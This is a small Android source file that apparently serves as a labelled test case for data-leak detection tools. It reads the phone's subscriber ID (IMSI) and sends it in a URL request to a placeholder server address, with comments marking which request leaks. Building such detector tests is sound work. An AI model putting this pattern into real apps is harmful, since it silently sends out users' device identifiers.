package habits;

import android.app.Activity;
import android.content.Context;
import android.os.AsyncTask;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.widget.TextView;
import java.net.URL;

/** Work with parameters, in the background. */
public class Tasks extends Activity {
    private class Send extends AsyncTask<String, Integer, String> {
        private final String path;

        Send(String path) {
            this.path = path;
        }

        @Override
        protected String doInBackground(String... words) {
            try {
                new URL("http://203.0.113.3/" + path + "/" + words[1]).openStream(); // leak
                new URL("http://203.0.113.3/" + path + "/" + words[0]).openStream(); // no leak
            } catch (Exception ignored) {
            }
            return words[0];
        }

        @Override
        protected void onPostExecute(String result) {
            setTitle(result);
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        new Send("t").execute("hello", phone.getSubscriberId());
    }
}
